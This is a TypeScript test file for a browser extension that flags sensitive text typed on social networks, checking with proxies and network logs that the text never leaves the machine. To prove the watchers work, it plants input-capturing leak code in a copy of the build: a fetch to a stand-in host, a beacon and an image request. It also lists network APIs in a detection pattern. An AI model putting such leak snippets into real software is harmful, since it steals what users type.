/** What is typed leaves the machine in no way of ours. A leaking build is put through the same watchers, to show that they would see it. */
import { appendFile, cp, mkdtemp, readFile, rm } from "node:fs/promises";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterAll, expect, test } from "vitest";
import { clickOn, launchChromium, typeInto, until, untilEnabled } from "../setup/browsers.ts";
import { builtExtension } from "../setup/builds.ts";
import { startProxy } from "../setup/proxy.ts";
import { hosts, startServer } from "../setup/serve.ts";
import { BOXES as KINDS, FACEBOOK, LINKEDIN_C, VARIANTS, X_INLINE, type Box } from "./boxes.ts";
import { FURTHER } from "./further-boxes.ts";
import { pointAtMark, press, reportOn, untilCard, untilMarked, untilPaused } from "./ours.ts";

const MARKER = "Quillfeather";
const RISKY = `My patient Zebediah ${MARKER} coded yesterday in room 12.`;
const NETWORKS = /^(x|twitter)\.com$|^(www|business)\.(facebook|linkedin)\.com$/;
/** The browser's own errands, which no extension causes; they carry nothing of a page. */
const BROWSERS_OWN = /(^|\.)(google|googleapis|gvt1)\.com$/;

const LEAKS: readonly (readonly [string, string])[] = [
  ["fetch to a strange host", `fetch("https://leak.invalid/?q=" + encodeURIComponent(text), { mode: "no-cors" }).catch(() => {})`],
  ["a beacon to the page's own host", `navigator.sendBeacon(location.origin + "/beacon", text)`],
  ["an image address", `new Image().src = location.origin + "/i.png?q=" + encodeURIComponent(text)`],
];

const folders: string[] = [];
afterAll(() => Promise.all(folders.map((folder) => rm(folder, { recursive: true, force: true }))));

/** A copy of the build that ships, with a leak added to its content script. */
async function leaking(leak: string): Promise<string> {
  const folder = await mkdtemp(join(tmpdir(), "leaking-"));
  folders.push(folder);
  await cp(builtExtension("chromium"), folder, { recursive: true });
  const manifest = JSON.parse(await readFile(join(folder, "manifest.json"), "utf8")) as { content_scripts: { js: string[] }[] };
  const script = manifest.content_scripts[0]?.js[0] ?? "";
  await appendFile(join(folder, script), `\n;addEventListener("input", (e) => { const text = e.composedPath()[0].textContent ?? ""; if (text.includes("${MARKER}")) { ${leak}; } }, true);`);
  return folder;
}

/** Every surface of the installation that marks and needs no setting in the long run, some kinds of editor otherwise. */
const BOXES: readonly Box[] = process.env["LONG"] === undefined ? [X_INLINE, FACEBOOK, LINKEDIN_C] : [...KINDS, ...VARIANTS, ...FURTHER].filter((box) => box.field !== true && box.surface !== "dm" && box.button !== "" && box.start === undefined);

/**
 * Drives the extension through all it does with a marked text, and returns what was seen on the way out by each of the watchers: the driver's requests,
 * the protocol's, a proxy that stands where every strange host would be, the browser's own log of its network, and the networks' server.
 */
async function watch(extensionDir: string) {
  const server = await startServer();
  const proxy = await startProxy();
  const folder = await mkdtemp(join(tmpdir(), "net-log-"));
  folders.push(folder);
  const log = join(folder, "log.json");
  const args = [`--proxy-server=http://127.0.0.1:${proxy.port}`, `--proxy-bypass-list=${hosts.join(";")}`, "--disable-quic", `--log-net-log=${log}`];
  const chromium = await launchChromium({ port: server.port, extensionDir, args });
  const seen: { url: string; body: string }[] = [];
  try {
    chromium.context.on("request", (request) => seen.push({ url: request.url(), body: request.postData() ?? "" }));
    for (const box of BOXES) {
      const page = await chromium.open(box.url);
      const cdp = await chromium.context.newCDPSession(page);
      cdp.on("Network.requestWillBeSent", ({ request }) => seen.push({ url: request.url, body: request.postData ?? "" }));
      await cdp.send("Network.enable");
      const rig = { page, world: await chromium.world(page) };
      for (const opener of box.opener ?? []) await clickOn(page, opener);
      const words = reportOn(box, RISKY).findings.map((f) => f.text);
      await typeInto(page, box.editor, RISKY);
      await untilMarked(rig, words);
      await pointAtMark(rig);
      await untilCard(rig);
      await press(rig, "close");
      await untilEnabled(page, box.button, true);
      await clickOn(page, box.button);
      await untilPaused(rig);
      await press(rig, "edit");
      await page.close();
    }
    const page = await chromium.open(`chrome-extension://${await chromium.extensionId()}/src/pages/practice/index.html`);
    await typeInto(page, "textarea", RISKY);
    await until(() => page.locator("main").innerText(), (text) => text.includes("Pause") || text.includes("Stop"), "the report on the practice page");
    for (const request of server.requests) seen.push({ url: `https://${request.host}${request.path}`, body: request.body });
  } finally {
    await chromium.close();
    await server.close();
    await proxy.close();
  }
  const logged = [...(await readFile(log, "utf8")).matchAll(/"url":"(https?:[^"]{1,4000})"/g)].map(([, url = ""]) => url);
  for (const url of [...proxy.asked, ...logged]) if (URL.canParse(url)) seen.push({ url, body: "" });
  const away = seen.filter(({ url }) => /^https?:/.test(url));
  return {
    all: away.length,
    logged: logged.length,
    asked: proxy.asked.map((url) => new URL(url).hostname),
    strange: away.map(({ url }) => new URL(url).hostname).filter((host) => !NETWORKS.test(host) && !BROWSERS_OWN.test(host)),
    marked: away.filter(({ url, body }) => url.includes(MARKER) || body.includes(MARKER)),
  };
}

test("the build that ships: no strange host, and the text in no request", async () => {
  const { all, logged, asked, strange, marked } = await watch(builtExtension("chromium"));
  expect(all).toBeGreaterThan(3);
  expect(logged).toBeGreaterThan(3);
  expect(asked.filter((host) => !BROWSERS_OWN.test(host))).toEqual([]);
  expect(strange).toEqual([]);
  expect(marked).toEqual([]);
});

test.each(LEAKS)("the same watchers see %s", async (name, leak) => {
  const { strange, asked, marked } = await watch(await leaking(leak));
  expect(marked.length).toBeGreaterThan(0);
  if (name.includes("strange")) for (const hostsSeen of [strange, asked]) expect(hostsSeen).toContain("leak.invalid");
});

test("nothing that ships can speak to a network", async () => {
  for (const browser of ["chromium", "firefox"] as const) {
    const script = await readFile(join(builtExtension(browser), "src/guard/content.js"), "utf8");
    expect(script.match(/\bfetch\(|XMLHttpRequest|sendBeacon|WebSocket|EventSource|\beval\(|new Function|importScripts|import\(/g) ?? []).toEqual([]);
  }
});
